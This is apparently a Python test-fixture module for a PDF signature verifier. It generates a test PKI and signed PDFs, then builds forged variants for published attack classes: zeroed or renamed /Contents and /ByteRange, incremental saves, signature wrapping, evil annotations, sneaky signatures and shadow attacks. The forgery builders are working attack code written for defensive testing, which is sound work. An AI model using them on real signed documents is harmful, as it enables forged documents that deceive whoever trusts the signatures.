"""Genuine signed PDFs and the known PDF-signature attacks built on them, for the tests.

Each builder takes the bytes of a genuine certified PDF and returns an attacked file, written
by hand (raw bytes) or with pyHanko's incremental writer, the way an attacker would: never by
re-saving with pikepdf (that breaks the signature outright and proves nothing). The classes are
those of Mladenov et al. 2019, Mainka et al. 2021 and Rohlmann et al. 2021 (RESEARCH §4).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

# --- a small PKI and signer, until every test can use the shared dev_pki fixture -------------


def _name(common_name: str) -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COUNTRY_NAME, "LK"),
            x509.NameAttribute(NameOID.COMMON_NAME, common_name),
        ]
    )


@dataclass(frozen=True)
class RawSigner:
    """The Signer protocol over an in-memory key (raw r‖s, as the real backends return)."""

    certificate: x509.Certificate
    key: ec.EllipticCurvePrivateKey
    signer_id: str = "LKTD"

    @property
    def cert_reference(self) -> str:
        return format(self.certificate.serial_number, "X")

    def sign(self, data: bytes, hash_name: str | None = None) -> bytes:
        algorithm = {
            "sha1": hashes.SHA1(),  # only for the test that a SHA-1 signature is refused  # noqa: S303
            "sha224": hashes.SHA224(),
            "sha256": hashes.SHA256(),
            "sha384": hashes.SHA384(),
            "sha512": hashes.SHA512(),
        }[hash_name or "sha256"]
        r, s = decode_dss_signature(self.key.sign(data, ec.ECDSA(algorithm)))
        size = (self.key.curve.key_size + 7) // 8
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")


@dataclass(frozen=True)
class MiniPki:
    root: x509.Certificate
    root_key: ec.EllipticCurvePrivateKey
    signer: RawSigner


def make_pki(at: datetime, *, common_name: str = "Test Root") -> MiniPki:
    """A P-384 root and a P-256 document signer valid from a day before ``at`` for a year."""
    root_key = ec.generate_private_key(ec.SECP384R1())
    start = at - timedelta(days=1)
    root = (
        x509.CertificateBuilder()
        .subject_name(_name(common_name))
        .issuer_name(_name(common_name))
        .public_key(root_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .add_extension(
            x509.KeyUsage(False, False, False, False, False, True, True, False, False), True
        )
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(root_key.public_key()), False)
        .sign(root_key, hashes.SHA384())
    )
    key = ec.generate_private_key(ec.SECP256R1())
    cert = (
        x509.CertificateBuilder()
        .subject_name(_name("TD"))
        .issuer_name(root.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=425))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, False, False, False, False), True
        )
        .add_extension(
            # documentSigning (RFC 9336) plus emailProtection: NSS, and so poppler's pdfsig,
            # trusts a PDF signer only with emailProtection or no EKU at all (measured).
            x509.ExtendedKeyUsage(
                [x509.ObjectIdentifier("1.3.6.1.5.5.7.3.36"), ExtendedKeyUsageOID.EMAIL_PROTECTION]
            ),
            False,
        )
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), False)
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(root_key.public_key()), False
        )
        .sign(root_key, hashes.SHA384())
    )
    return MiniPki(root=root, root_key=root_key, signer=RawSigner(cert, key))


def simple_pdf(text: str = "Temporary travel document", pages: int = 1) -> bytes:
    """A plain reportlab PDF to sign, until the real layouts are used."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    for page in range(pages):
        pdf.drawString(72, 760, f"{text} — page {page + 1}")
        pdf.drawString(72, 740, "Surname: PERERA   Given names: NIMAL")
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


# --- helpers over raw bytes -------------------------------------------------------------------


def _byte_range(pdf: bytes) -> tuple[int, int, int, int, re.Match[bytes]]:
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert match is not None, "no /ByteRange in the genuine file"
    a, b, c, d = (int(g) for g in match.groups())
    return a, b, c, d, match


def _contents_span(pdf: bytes) -> tuple[int, int]:
    """Start and end offsets of the first signature's /Contents hex string, brackets included."""
    _, length1, start2, _, _ = _byte_range(pdf)
    assert pdf[length1 : length1 + 1] == b"<" and pdf[start2 - 1 : start2] == b">"
    return length1, start2


def _first_page_ref(pdf: bytes) -> int:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(pdf))
    ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    return int(ref.idnum)


def _with_fresh_xref(body: bytes) -> bytes:
    """Append one complete xref table (last definition of each object wins) and a trailer,
    the way an attacker makes a rearranged file readable again."""
    offsets: dict[int, int] = {}
    for match in re.finditer(rb"(?:^|[\r\n])(\d+) 0 obj\b", body):
        offsets[int(match.group(1))] = match.start(1)
    root = re.findall(rb"/Root (\d+) 0 R", body)[-1].decode()
    size = max(offsets) + 1
    lines = [b"xref", f"0 {size}".encode(), b"0000000000 65535 f\r"]
    for number in range(1, size):
        if number in offsets:
            lines.append(f"{offsets[number]:010d} 00000 n\r".encode())
        else:
            lines.append(b"0000000000 65535 f\r")
    xref_at = len(body) + 1
    trailer = f"trailer\n<< /Size {size} /Root {root} 0 R >>\nstartxref\n{xref_at}\n%%EOF\n"
    return body + b"\n" + b"\n".join(lines) + b"\n" + trailer.encode()


def _append_revision(pdf: bytes, edit: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- universal signature forgery (Mladenov et al. 2019) --------------------------------------


def usf_zero_contents(pdf: bytes) -> bytes:
    """/Contents filled with zeros: a signature value that is no signature."""
    start, end = _contents_span(pdf)
    return pdf[:start] + b"<" + b"0" * (end - start - 2) + b">" + pdf[end:]


def usf_remove_contents(pdf: bytes) -> bytes:
    """/Contents renamed away (same length, so offsets hold): the signature has no value."""
    start, _ = _contents_span(pdf)
    head = pdf[:start]
    key = head.rindex(b"/Contents")
    return head[:key] + b"/Cxntents" + head[key + len(b"/Contents") :] + pdf[start:]


def usf_remove_byterange(pdf: bytes) -> bytes:
    """/ByteRange renamed away: nothing says which bytes are signed."""
    _, _, _, _, match = _byte_range(pdf)
    return pdf[: match.start()] + b"/BxteRange" + pdf[match.start() + len(b"/ByteRange") :]


def usf_zero_byterange(pdf: bytes) -> bytes:
    """/ByteRange [0 0 0 0] padded to the same length: covers nothing."""
    _, _, _, _, match = _byte_range(pdf)
    text = match.group(0)
    replacement = b"/ByteRange [0 0 0 0]"
    replacement += b" " * (len(text) - len(replacement))
    return pdf[: match.start()] + replacement + pdf[match.end() :]


def contents_padding(pdf: bytes) -> bytes:
    """Data written into the zero padding after the CMS object in /Contents (unsigned bytes
    that parsers stopping at the end of the DER object never look at)."""
    start, end = _contents_span(pdf)
    hex_value = pdf[start + 1 : end - 1]
    hidden = b"DEADBEEF" * 8
    used = len(hex_value.rstrip(b"0"))
    used += used % 2  # stay on a byte boundary
    patched = hex_value[:used] + hidden + hex_value[used + len(hidden) :]
    assert len(patched) == len(hex_value)
    return pdf[: start + 1] + patched + pdf[end - 1 :]


# --- incremental saving attack (ISA) ---------------------------------------------------------


def isa_with_xref(pdf: bytes) -> bytes:
    """A new revision that replaces the page content (with a proper xref section)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (FORGED) Tj ET")
        page["/Contents"] = writer.add_object(stream)
        writer.update_container(page)

    return _append_revision(pdf, edit)


def isa_without_xref(pdf: bytes) -> bytes:
    """Appended objects that redefine the page content, without xref or trailer: lenient
    viewers fix the file up by scanning for objects, and show the new content."""
    numbers = [int(n) for n in re.findall(rb"(\d+) 0 obj", pdf)]
    page_number = _first_page_ref(pdf)
    new = max(numbers) + 1
    return (
        pdf
        + b"\n"
        + f"{new} 0 obj\n<< /Length 37 >>\nstream\n".encode()
        + b"BT /F1 24 Tf 72 700 Td (FORGED) Tj ET"
        + b"\nendstream\nendobj\n"
        + f"{page_number} 0 obj\n<< /Type /Page /Contents {new} 0 R >>\nendobj\n".encode()
    )


def isa_without_xref_eof(pdf: bytes) -> bytes:
    """As :func:`isa_without_xref`, ending with the *old* ``startxref`` and ``%%EOF``: nothing
    trails the last marker, strict readers still see the signed revision, lenient viewers
    reconstruct the file and show the appended objects."""
    startxref = re.findall(rb"startxref\s+(\d+)\s+%%EOF", pdf)[-1]
    return isa_without_xref(pdf) + b"startxref\n" + startxref + b"\n%%EOF\n"


def append_after_eof(pdf: bytes) -> bytes:
    """Bytes after the last %%EOF without any xref: pyHanko's diff analysis alone says fine."""
    return pdf + b"\n% appended comment after the signature\n1 0 obj\n<< >>\nendobj\n"


# --- signature wrapping attack (SWA) ---------------------------------------------------------


def signature_wrapping(pdf: bytes) -> bytes:
    """Signature wrapping (Mladenov et al. 2019).

    The originally signed second block is moved, untouched, into a dummy stream further on;
    a fresh copy of the signature dictionary, defined after it, carries a /ByteRange pointing
    at the moved block, so hashing the range still yields exactly the signed bytes and the CMS
    verifies. Forged page content and a fresh xref follow: a viewer shows the attacker's page.
    """
    a, length1, start2, length2, match = _byte_range(pdf)
    part1 = pdf[:length1]
    contents = pdf[length1:start2]
    part2 = pdf[start2 : start2 + length2]
    numbers = [int(n) for n in re.findall(rb"(\d+) 0 obj", pdf)]
    new = max(numbers) + 1
    wrapper_head = f"\n{new} 0 obj\n<< /Length {length2} >>\nstream\n".encode()
    new_start2 = start2 + len(wrapper_head)
    byte_range = f"/ByteRange [{a} {length1} {new_start2} {length2}]".encode()
    old = match.group(0)
    assert len(byte_range) <= len(old)
    byte_range += b" " * (len(old) - len(byte_range))
    # the signature dictionary around /Contents, copied with the new /ByteRange
    sig_start = pdf.rfind(b" 0 obj", 0, length1)
    sig_start = max(pdf.rfind(b"\n", 0, sig_start), pdf.rfind(b"\r", 0, sig_start)) + 1
    sig_end = pdf.index(b"endobj", start2) + len(b"endobj")
    edited = pdf[: match.start()] + byte_range + pdf[match.end() :]
    sig_copy = edited[sig_start:sig_end]
    forged = b"BT /F1 24 Tf 72 700 Td (FORGED) Tj ET"
    page = _first_page_ref(pdf)
    page_obj = re.search(rf"(?:^|[\r\n]){page} 0 obj\s*(<<.*?)\s*endobj".encode(), pdf, re.DOTALL)
    assert page_obj is not None
    page_dict = re.sub(
        rb"/Contents \d+ 0 R", f"/Contents {new + 1} 0 R".encode(), page_obj.group(1)
    )
    body = (
        part1
        + contents
        + wrapper_head
        + part2
        + b"\nendstream\nendobj\n"
        + sig_copy
        + b"\n"
        + f"{new + 1} 0 obj\n<< /Length {len(forged)} >>\nstream\n".encode()
        + forged
        + b"\nendstream\nendobj\n"
        + f"{page} 0 obj\n".encode()
        + page_dict
        + b"\nendobj\n"
    )
    return _with_fresh_xref(body)


# --- evil annotation / sneaky signature (Mainka et al. 2021) ----------------------------------


def add_annotation(pdf: bytes) -> bytes:
    """A FreeText annotation drawn over the page (what P=2/3 would let through)."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        annot = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (60, 700, 400, 780)]
                ),
                pdf_name("/Contents"): generic.TextStringObject("FORGED"),
                pdf_name("/DA"): generic.TextStringObject("/Helv 24 Tf 0 g"),
            }
        )
        annots = page.get("/Annots", generic.ArrayObject())
        annots = generic.ArrayObject([*list(annots), writer.add_object(annot)])
        page["/Annots"] = annots
        writer.update_container(page)

    return _append_revision(pdf, edit)


def sneaky_signature(pdf: bytes) -> bytes:
    """A new signature field whose appearance covers the page content."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page_ref = writer.root["/Pages"]["/Kids"][0]
        page = page_ref.get_object()
        appearance = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 400, 100)]
                ),
            },
            stream_data=b"1 1 1 rg 0 0 400 100 re f 0 g BT /F1 24 Tf 10 40 Td (FORGED) Tj ET",
        )
        field = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject("Sneaky"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (60, 680, 460, 780)]
                ),
                pdf_name("/P"): page_ref,
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): writer.add_object(appearance)}
                ),
            }
        )
        field_ref = writer.add_object(field)
        annots = page.get("/Annots", generic.ArrayObject())
        page["/Annots"] = generic.ArrayObject([*list(annots), field_ref])
        writer.update_container(page)
        acroform = writer.root["/AcroForm"]
        acroform["/Fields"].append(field_ref)
        writer.update_container(acroform)

    return _append_revision(pdf, edit)


# --- shadow attacks (Rohlmann et al. 2021): prepared before signing ---------------------------


def shadow_hide_and_replace(signed: bytes) -> bytes:
    """After signing, a new revision swaps an object the signed revision already contained
    (the page content) for a different one that was 'hidden' in the signed file.

    In the paper the replacement content ships invisibly inside the signed revision; the
    attacker's update only changes a reference. Here the update rewrites the page's
    /Contents reference to point at a new stream; the verifier sees the same thing: a later
    revision changing signed objects.
    """

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        hidden = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (SHADOW) Tj ET")
        page["/Contents"] = generic.ArrayObject(
            [page.raw_get("/Contents"), writer.add_object(hidden)]
        )
        writer.update_container(page)

    return _append_revision(signed, edit)


def shadow_hide_overlay(signed: bytes) -> bytes:
    """Shadow 'hide': a later revision adds only an overlay XObject to the page's resources
    and content — a change a lenient policy might take for a harmless form update."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        resources = page["/Resources"]
        overlay = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 595, 842)]
                ),
            },
            stream_data=b"1 1 1 rg 60 730 400 50 re f",
        )
        xobjects = resources.get("/XObject", generic.DictionaryObject())
        xobjects[pdf_name("/Shadow")] = writer.add_object(overlay)
        resources[pdf_name("/XObject")] = xobjects
        writer.update_container(page)

    return _append_revision(signed, edit)


SHADOW_TEXT = b"BT /F1 24 Tf 72 700 Td (SHADOW CONTENT) Tj ET"


def shadow_prepare(unsigned: bytes) -> bytes:
    """Shadow attack, step 1 (before signing): plant an unreferenced content stream.

    It renders nowhere, so the signer sees an innocent page; the sanitizer of underlying
    documents drops exactly such unreferenced objects.
    """
    import pikepdf

    with pikepdf.open(io.BytesIO(unsigned)) as pdf:
        hidden = pdf.make_indirect(pikepdf.Stream(pdf, SHADOW_TEXT))
        # keep it from being garbage-collected on save, without referencing it from a page
        pdf.trailer["/ShadowKeep"] = hidden
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    data = out.getvalue()
    # drop the keeper from the trailer text (same length): the object stays, unreferenced
    return data.replace(b"/ShadowKeep", b"/ShadowKeeq")


def shadow_switch(signed: bytes) -> bytes:
    """Shadow attack, step 2 (after signing): an update that only re-points the page's
    /Contents at the planted stream; no new content object is added."""
    match = re.search(
        rb"(\d+) 0 obj\s*<<\s*/Length \d+\s*>>\s*stream\r?\n" + re.escape(SHADOW_TEXT), signed
    )
    assert match is not None, "the prepared document holds no planted stream"
    hidden = int(match.group(1))

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        page["/Contents"] = generic.IndirectObject(hidden, 0, writer)
        writer.update_container(page)

    return _append_revision(signed, edit)


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "usf_zero_contents": usf_zero_contents,
    "usf_remove_contents": usf_remove_contents,
    "usf_remove_byterange": usf_remove_byterange,
    "usf_zero_byterange": usf_zero_byterange,
    "isa_with_xref": isa_with_xref,
    "isa_without_xref": isa_without_xref,
    "isa_without_xref_eof": isa_without_xref_eof,
    "contents_padding": contents_padding,
    "append_after_eof": append_after_eof,
    "signature_wrapping": signature_wrapping,
    "evil_annotation": add_annotation,
    "sneaky_signature": sneaky_signature,
    "shadow_hide_and_replace": shadow_hide_and_replace,
    "shadow_hide_overlay": shadow_hide_overlay,
}
